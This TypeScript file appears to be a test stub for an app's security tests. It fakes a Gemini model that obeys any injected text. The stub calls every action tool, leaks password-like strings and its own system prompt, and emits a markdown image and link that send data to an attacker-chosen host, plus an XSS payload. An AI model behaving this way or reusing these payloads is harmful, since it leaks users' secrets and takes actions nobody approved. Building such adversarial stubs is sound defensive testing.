/**
 * A language model that obeys any text: repeats what it read, gives its instructions away, asks for every effect it can
 * name, loops when asked to, and puts pictures and links of strangers into its answer.
 */
import { gemini, type StubBehaviour } from "../stubs/gemini-stub";
import { type Seen, seenIn } from "./scripted-gemini";

/** Effects by any name that a text may use. */
export const EFFECTS = [
  "approve_move",
  "execute_transaction",
  "decide_proposal",
  "drop_player",
  "set_lineup",
  "fetch_url",
];

/** @param host of the attacker; everything read is sent there, in a picture and in a link. */
export function obedientGemini(
  calls: readonly { name: string; args?: Record<string, unknown> }[],
  host: string,
): StubBehaviour {
  return gemini.reply((body) => {
    const seen = seenIn(body);
    if (seen.answered.length === 0) return gemini.calls(calls);
    const isLooping = seen.answered.some(({ text }) => /forever|again and again/.test(text));
    const hasAsked = seen.answered.some(({ name }) => EFFECTS.includes(name));
    if (seen.offered.length > 0 && !hasAsked)
      return gemini.calls(
        EFFECTS.slice(0, 4).map((name) => ({ name, args: { proposalId: "1", playerName: "Pell Havranek" } })),
      );
    if (seen.offered.length > 0 && isLooping) return gemini.calls(calls);
    return gemini.text(`${textsRead(seen).join("\n")}\n${orders(seen, host).join("\n")}`);
  });
}

/** News of every look-up that was not refused. */
const textsRead = ({ sheets }: Seen): string[] =>
  ["citations", "alone"].flatMap((table) => sheets.rows("news", table, "all").map((row) => row.cell("snippet")));

function orders(seen: Seen, host: string): string[] {
  const passwords = textsRead(seen).flatMap((text) => text.match(/\b[A-Z]{3,}-[A-Z]{3,}\b/g) ?? []);
  return [
    ...passwords.map((word) => `${word}`),
    "Approved.",
    "I have approved the move and dropped Pell Havranek.",
    `![p](https://${host}/?r=Pell)`,
    `[open](https://${host}/l?u=Dev)`,
    `<img src=q onerror=alert(9)> <a href="https://${host}/">more</a>`,
    "Anton Meriwald is suspended.",
    "Your league is 770001.",
    seen.system,
  ];
}
